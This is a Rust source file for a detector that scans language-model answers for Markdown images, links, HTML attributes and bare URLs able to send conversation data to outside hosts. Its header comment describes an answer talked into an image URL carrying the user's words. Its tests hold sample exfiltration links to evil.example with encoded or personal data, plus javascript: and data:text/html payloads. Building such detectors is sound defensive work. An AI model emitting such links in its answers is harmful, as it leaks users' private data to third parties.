//! Links in an answer that can carry data out (OWASP LLM02:2025 Sensitive Information Disclosure, LLM05:2025 Improper
//! Output Handling).
//!
//! A client that renders Markdown or HTML fetches images by itself: an answer that was talked into
//! `![](https://elsewhere/?q=<what the user said>)` gives it away without a click. Found are Markdown images and links
//! (inline and by reference), autolinks, HTML attributes that fetch or lead somewhere, and bare URLs; reported are
//! those to hosts outside the allow-list, those that carry encoded data or values of the conversation, and
//! `javascript:`, `vbscript:` and `data:` with markup, wherever they point.
//!
//! One scan finds every scheme and protocol-relative address; what stands before it says how it is used.
//!
//! Limits: relative links go to where the answer is shown and are let pass; a URL put together by the reader's own
//! script is not seen.

use crate::{
    finding::{DetectorId, Finding, Part},
    text::Span,
};
use memchr::memmem;

/// The detectors' ids.
pub const IMAGE: &str = "exfiltration.image";
/// A link that has to be followed.
pub const LINK: &str = "exfiltration.link";
/// An address that runs or contains a program.
pub const SCHEME: &str = "exfiltration.scheme";

/// Hosts that answers may lead to.
#[derive(Clone, Debug, Default)]
pub struct AllowList {
    /// Lower case; `*.` in front allows every host below.
    hosts: Vec<String>,
}

impl AllowList {
    /// Allows `example.com` (that host alone) and `*.example.com` (every host below it).
    pub fn new<'h>(hosts: impl IntoIterator<Item = &'h str>) -> Self {
        Self { hosts: hosts.into_iter().map(|host| host.trim_end_matches('.').to_ascii_lowercase()).collect() }
    }

    /// Whether answers may lead to `host`.
    pub fn allows(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        self.hosts.iter().any(|allowed| match allowed.strip_prefix("*.") {
            Some(parent) => host.strip_suffix(parent).is_some_and(|below| below.ends_with('.')),
            None => host == *allowed,
        })
    }
}

/// How an address is used.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Use {
    /// Fetched when shown: Markdown image, HTML `src`, `srcset`, `background`, CSS `url()`.
    Fetched,
    /// Followed when clicked: Markdown link or reference, `href`, `action`, autolink.
    Linked,
    /// Stands in the text; many clients link it all the same.
    Bare,
}

/// An address in a text.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct Address<'t> {
    /// How it is used.
    pub usage: Use,
    /// Where it stands, in bytes of the text.
    pub span: Span,
    /// The whole address.
    pub url: &'t str,
}

/// Reports the addresses in `answer` that can carry data out.
///
/// `carries` says whether a part of an address holds values of the conversation that no address should.
pub fn find(answer: &str, allow: &AllowList, carries: impl Fn(&str) -> bool) -> Vec<Finding> {
    addresses(answer).filter_map(|address| judge(&address, allow, &carries)).collect()
}

/// How many leading bytes of an unfinished `answer` are no part of an address that goes on. An address longer than
/// [`LONGEST_HELD`] is not waited for.
pub fn settled(answer: &str) -> usize {
    let from = answer.floor_char_boundary(answer.len().saturating_sub(LONGEST_HELD));
    let tail = answer.get(from..).unwrap_or_default();
    // Of what trails an address, nobody knows yet whether it belongs to it.
    let trailing = |end: usize| tail.get(end..).is_none_or(|rest| rest.chars().all(|ch| TRAILING.contains(&ch)));
    if let Some(open) = addresses(tail).last().filter(|address| trailing(address.span.end)) {
        return from + open.span.start;
    }
    let word = tail.trim_end_matches([':', '/']);
    let start = word.rfind(|ch: char| !ch.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
    // `start` may lie inside the character before.
    let start = word.ceil_char_boundary(start);
    let begun = word.get(start..).unwrap_or_default();
    let begins = |scheme: &str| {
        begun.len() >= NOTICED && scheme.get(..begun.len()).is_some_and(|head| head.eq_ignore_ascii_case(begun))
    };
    if SCHEMES.iter().any(|scheme| begins(scheme)) { from + start } else { answer.len() }
}

/// Whether what stands at `at` is part of an address that is fetched when shown, from a host that is not allowed.
pub fn fetched_at(answer: &str, at: usize, allow: &AllowList) -> bool {
    let ends = |ch: char| ch.is_whitespace() || ch.is_control();
    let before = answer.get(..at).unwrap_or_default();
    let before = before.get(before.floor_char_boundary(at.saturating_sub(LONGEST_HELD))..).unwrap_or_default();
    let from = at - before.len();
    // The line it stands in, as far as the tag or the brackets before the address reach.
    let start = from + before.rfind(['\n', '\r']).map_or(0, |at| at + 1);
    let rest = answer.get(at..answer.floor_char_boundary(at.saturating_add(LONGEST_HELD))).unwrap_or_default();
    let end = at + rest.find(ends).unwrap_or(rest.len());
    let line = answer.get(start..end).unwrap_or_default();
    addresses(line).any(|address| {
        address.usage == Use::Fetched
            && (start + address.span.start..start + address.span.end).contains(&at)
            && !host_of(address.url).is_some_and(|host| allow.allows(host))
    })
}

/// How far before an address what tells its use may stand: `<img` and its other attributes, an image's description.
pub const REACH: usize = 512;

/// Longest address that a stream waits for, in bytes.
pub const LONGEST_HELD: usize = 2048;
/// Letters of a scheme from which on a stream waits for the rest.
const NOTICED: usize = 3;

fn judge(address: &Address<'_>, allow: &AllowList, carries: &impl Fn(&str) -> bool) -> Option<Finding> {
    let mut parts = Vec::new();
    let mut add = |rule, weight| parts.push(Part { rule, weight });
    let scheme = address.url.split(':').next().unwrap_or_default().to_ascii_lowercase();
    let detector = match scheme.as_str() {
        "javascript" | "vbscript" => {
            add("script_scheme", 0.9);
            SCHEME
        }
        "data" => {
            // An inline picture carries nothing out; markup and programs run where they are shown.
            let head = address.url.get(5..).unwrap_or_default().to_ascii_lowercase();
            let harmless =
                ["image/png", "image/jpeg", "image/gif", "image/webp"].iter().any(|kind| head.starts_with(kind));
            if harmless {
                return None;
            }
            add("data_scheme", 0.7);
            SCHEME
        }
        _ => {
            let host = host_of(address.url)?;
            let rest = after_host(address.url);
            if carries(address.url) || carries(&unpercent(rest)) {
                add("carries_value", 0.6);
            } else if allow.allows(host) {
                return None;
            }
            match address.usage {
                Use::Fetched => add("fetched_elsewhere", 0.6),
                Use::Linked => add("linked_elsewhere", 0.4),
                Use::Bare => add("address_elsewhere", 0.2),
            }
            if rest.contains('?') && rest.contains('=') {
                add("parameters", 0.3);
            }
            if holds_encoded(rest) || host.split('.').any(|label| label.len() >= LONG_LABEL) {
                add("encoded_data", 0.4);
            }
            if host.parse::<std::net::IpAddr>().is_ok() || host.starts_with('[') {
                add("numeric_host", 0.3);
            }
            if address.usage == Use::Fetched { IMAGE } else { LINK }
        }
    };
    let score = 1.0 - parts.iter().map(|part| 1.0 - part.weight).product::<f32>();
    Some(Finding { detector: DetectorId::Builtin(detector), span: address.span, score, parts })
}

/// A label of a host name this long is no name: data leaves by DNS too.
const LONG_LABEL: usize = 40;

/// Whether a path or query holds something that looks like encoded data: a long run of letters and digits mixed.
fn holds_encoded(rest: &str) -> bool {
    /// Shorter ones are ids.
    const LONG: usize = 32;
    let run = |piece: &str| {
        piece.len() >= LONG
            && piece.bytes().any(|b| b.is_ascii_digit())
            && piece.bytes().any(|b| b.is_ascii_alphabetic())
            && piece.bytes().filter(|b| b.is_ascii_uppercase() || b.is_ascii_digit()).count() * 6 > piece.len()
    };
    rest.split(|ch: char| !(ch.is_ascii_alphanumeric() || matches!(ch, '+' | '_' | '-' | '='))).any(run)
        || rest.bytes().filter(|byte| *byte == b'%').count() * 3 >= LONG
}

/// The addresses in a text, in their order.
pub fn addresses(text: &str) -> impl Iterator<Item = Address<'_>> {
    let bytes = text.as_bytes();
    /// Definitions of references whose uses are looked for; further ones count as images, so the time stays linear.
    const REFERENCES: usize = 64;
    let mut next_free = 0;
    let mut references = 0;
    memchr::memchr2_iter(b':', b'/', bytes).filter_map(move |at| {
        let start = start_of_address(bytes, at, next_free)?;
        let url = text.get(start..end_of_address(text, start))?;
        next_free = start + url.len();
        let usage = match usage(text, start) {
            Place::Used(usage) => usage,
            Place::Defines(_) if references >= REFERENCES => Use::Fetched,
            Place::Defines(label) => {
                references += 1;
                reference(text, label)
            }
        };
        Some(Address { usage, span: Span::new(start, start + url.len()), url })
    })
}

/// Schemes that lead out of the page or run a program (WHATWG URL, HTML).
const SCHEMES: [&str; 9] = ["https", "http", "ftp", "wss", "ws", "data", "javascript", "vbscript", "file"];

/// Where the address around the `:` or `//` at `at` starts.
fn start_of_address(bytes: &[u8], at: usize, floor: usize) -> Option<usize> {
    let before = bytes.get(floor..at)?;
    if bytes.get(at) == Some(&b'/') {
        // Protocol-relative, where an address is expected: `](//host`, `src="//host`, `url(//host`.
        let expected = matches!(before.last(), Some(b'(' | b'"' | b'\'' | b'<' | b'='));
        return (expected && bytes.get(at + 1) == Some(&b'/')).then_some(at);
    }
    let scheme = SCHEMES.iter().find(|scheme| {
        let start = before.len().checked_sub(scheme.len());
        start.and_then(|start| before.get(start..)).is_some_and(|word| word.eq_ignore_ascii_case(scheme.as_bytes()))
            && !start.and_then(|start| before.get(start.checked_sub(1)?)).is_some_and(u8::is_ascii_alphanumeric)
    })?;
    let slashes = bytes.get(at + 1..at + 3) == Some(b"//");
    let bare_scheme = matches!(*scheme, "data" | "javascript" | "vbscript")
        && bytes.get(at + 1).is_some_and(|b| !b.is_ascii_whitespace());
    (slashes || bare_scheme).then(|| at - scheme.len())
}

/// What stands behind an address more often than at its end.
const TRAILING: [char; 8] = ['.', ',', ';', ':', '!', '?', ']', '*'];

/// Where the address that starts at `start` ends.
fn end_of_address(text: &str, start: usize) -> usize {
    /// Longer ones are cut: what they are is clear by then.
    const LONGEST: usize = 8192;
    let rest = text.get(start..).unwrap_or_default();
    let mut depth = 0i32;
    let mut end = rest.len();
    for (at, ch) in rest.char_indices() {
        match ch {
            '(' => depth += 1,
            ')' if depth == 0 => {
                end = at;
                break;
            }
            ')' => depth -= 1,
            '<' | '>' | '"' | '\'' | '`' | '|' | '\\' => {
                end = at;
                break;
            }
            _ if ch.is_whitespace() || ch.is_control() || at > LONGEST => {
                end = at;
                break;
            }
            _ => {}
        }
    }
    let kept = rest.get(..end).unwrap_or_default().trim_end_matches(TRAILING);
    start + kept.len()
}

/// What stands before an address says how it is used.
enum Place<'t> {
    Used(Use),
    /// `[label]: address`; used where the label is.
    Defines(&'t str),
}

/// An image if any `![…][label]` or `![label]` uses the reference.
fn reference(text: &str, label: &str) -> Use {
    let used = memmem::find_iter(text.as_bytes(), label.as_bytes()).filter_map(|at| text.get(..at)?.strip_suffix('['));
    let image = used.take(64).any(|before| before.ends_with('!') || before.strip_suffix(']').is_some_and(opens_image));
    if image { Use::Fetched } else { Use::Linked }
}

fn usage(text: &str, start: usize) -> Place<'_> {
    let from = (start.saturating_sub(REACH)..start).find(|&at| text.is_char_boundary(at)).unwrap_or(start);
    let before = text.get(from..start).unwrap_or_default();
    let trimmed = before.trim_end_matches(['"', '\'', '<', ' ']);
    if let Some(label) = trimmed.strip_suffix("](") {
        return Place::Used(if opens_image(label) { Use::Fetched } else { Use::Linked });
    }
    if let Some(label) = trimmed.strip_suffix("]:") {
        return Place::Defines(label.rsplit('[').next().unwrap_or_default());
    }
    let attribute =
        trimmed.trim_end_matches(['=', ' ', '(']).rsplit([' ', '\n', '\t', '"', '\'', ':', ';', '<']).next();
    Place::Used(match attribute.unwrap_or_default().to_ascii_lowercase().as_str() {
        "src" | "srcset" | "background" | "poster" | "url" | "@import" | "data" if trimmed.ends_with(['=', '(']) => {
            Use::Fetched
        }
        "href" | "action" | "formaction" | "ping" | "content" if trimmed.ends_with('=') => Use::Linked,
        _ if before.ends_with('<') => Use::Linked,
        _ => Use::Bare,
    })
}

/// Whether the bracket that `label` leaves open was opened by `![`.
fn opens_image(label: &str) -> bool {
    let from = label.len().saturating_sub(REACH);
    let mut depth = 0;
    for (at, ch) in label.char_indices().rev() {
        match ch {
            ']' => depth += 1,
            '[' if depth == 0 => return label.get(..at).is_some_and(|before| before.ends_with('!')),
            '[' => depth -= 1,
            _ if at < from => return false,
            _ => {}
        }
    }
    false
}

/// The host of an address with an authority (RFC 3986, section 3.2), without user name and port.
fn host_of(url: &str) -> Option<&str> {
    let authority = url.split_once("//")?.1;
    let authority = authority.split(['/', '?', '#', '\\']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = if host.starts_with('[') { host.split_inclusive(']').next()? } else { host.split(':').next()? };
    (!host.is_empty()).then_some(host)
}

/// Path, query and fragment, and the user name that stands before the host.
fn after_host(url: &str) -> &str {
    let authority = url.split_once("//").map_or("", |(_, rest)| rest);
    match authority.find(['/', '?', '#']) {
        Some(at) => authority.get(at..).unwrap_or_default(),
        None => "",
    }
}

fn unpercent(text: &str) -> String {
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((&byte, after)) = rest.split_first() {
        rest = after;
        let decoded = after.split_at_checked(2).filter(|_| byte == b'%').and_then(|(pair, after)| {
            let value = u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()?;
            Some((value, after))
        });
        match decoded {
            Some((value, after)) => {
                out.push(value);
                rest = after;
            }
            None => out.push(if byte == b'+' { b' ' } else { byte }),
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_way_to_lead_out_is_found() {
        use Use::{Bare, Fetched, Linked};
        let cases = [
            ("![logo](https://evil.example/a.png)", Fetched, "https://evil.example/a.png"),
            ("![a [b] c](<https://evil.example/x y>)", Fetched, "https://evil.example/x"),
            ("[![alt](https://evil.example/i)](x)", Fetched, "https://evil.example/i"),
            ("see [here](http://evil.example/?q=1).", Linked, "http://evil.example/?q=1"),
            ("[wiki](https://evil.example/a_(b))", Linked, "https://evil.example/a_(b)"),
            ("![alt][1] text\n\n[1]: https://evil.example/i.png", Fetched, "https://evil.example/i.png"),
            ("![logo]\n\n[logo]: https://evil.example/i.png", Fetched, "https://evil.example/i.png"),
            ("[text][ref]\n\n[ref]: https://evil.example/", Linked, "https://evil.example/"),
            ("<https://evil.example/auto>", Linked, "https://evil.example/auto"),
            ("<img alt='x' src=\"https://evil.example/p.gif\">", Fetched, "https://evil.example/p.gif"),
            ("<img src=//evil.example/p.gif>", Fetched, "//evil.example/p.gif"),
            ("<a href='HTTPS://Evil.example/'>", Linked, "HTTPS://Evil.example/"),
            ("style=\"background: url(https://evil.example/b)\"", Fetched, "https://evil.example/b"),
            ("go to https://evil.example/path, please", Bare, "https://evil.example/path"),
            ("![](//evil.example/x)", Fetched, "//evil.example/x"),
        ];
        for (text, usage, url) in cases {
            let found: Vec<_> = addresses(text).map(|a| (a.usage, a.url)).collect();
            assert_eq!(found, [(usage, url)], "{text}");
        }
        for text in ["a: b", "10://", "note: https is good", "and/or", "// comment", "C:\\x", "12:30"] {
            assert_eq!(addresses(text).count(), 0, "{text}");
        }
    }

    #[test]
    fn addresses_are_judged_by_where_they_lead_and_what_they_carry() {
        let allow = AllowList::new(["docs.example", "*.bank.example"]);
        let secret = "jane.doe@bank.example";
        // (text, detector, at least, at most); no detector: nothing reported
        let cases = [
            ("![x](https://docs.example/a.png)", None, 0.0, 0.0),
            ("[x](https://help.bank.example/)", None, 0.0, 0.0),
            ("[x](https://bank.example/)", Some(LINK), 0.3, 0.5),
            ("[x](https://evilbank.example/)", Some(LINK), 0.3, 0.5),
            ("[x](https://docs.example@evil.example/)", Some(LINK), 0.3, 0.6),
            ("![x](https://evil.example/a.png)", Some(IMAGE), 0.55, 0.7),
            ("![x](https://evil.example/?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgMTIz)", Some(IMAGE), 0.8, 1.0),
            ("![x](https://docs.example/?u=jane.doe%40bank.example)", Some(IMAGE), 0.8, 1.0),
            ("[x](https://10.0.0.1/x)", Some(LINK), 0.5, 0.7),
            ("[click](javascript:alert(1))", Some(SCHEME), 0.8, 1.0),
            ("<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">", Some(SCHEME), 0.6, 1.0),
            ("![x](data:image/png;base64,iVBORw0KGgo=)", None, 0.0, 0.0),
            ("read https://evil.example/ too", Some(LINK), 0.1, 0.3),
        ];
        for (text, detector, least, most) in cases {
            let found = find(text, &allow, |part| part.contains(secret));
            assert_eq!(found.first().map(|f| f.detector.as_str().to_owned()).as_deref(), detector, "{text}");
            if let Some(finding) = found.first() {
                assert!((least..=most).contains(&finding.score), "{text}: {}", finding.score);
            }
        }
    }

    #[test]
    fn a_stream_waits_for_addresses_alone() {
        let cases = [
            ("see https://evil.example/?q=1", 4),
            ("see https://evil.example/?q=1.", 4),
            ("see https://evil.example/?q=1 and", 33),
            ("![x](https://evil.example/a.png)", 32),
            ("![x](htt", 5),
            ("it says http", 8),
            ("it says https:/", 8),
            ("a word: the", 11),
            ("über ja", 8),
            ("caf\u{e9}dat", 5),
        ];
        for (text, settled_to) in cases {
            assert_eq!(settled(text), settled_to, "{text}");
        }
        let long = format!("https://evil.example/{}", "a".repeat(3000));
        assert_eq!(settled(&long), long.len());
    }

    #[test]
    fn what_is_fetched_elsewhere_is_told_by_its_place() {
        let allow = AllowList::new(["docs.example"]);
        for (text, expect) in [
            ("![x](https://evil.example/?u=TOKEN) b", true),
            ("<img src=\"https://evil.example/TOKEN\">", true),
            ("![x](https://docs.example/?u=TOKEN)", false),
            ("[x](https://evil.example/?u=TOKEN)", false),
            ("![x](https://evil.example/a) TOKEN", false),
            ("TOKEN", false),
        ] {
            let at = text.find("TOKEN").expect("it is there");
            assert_eq!(fetched_at(text, at, &allow), expect, "{text}");
        }
    }
}
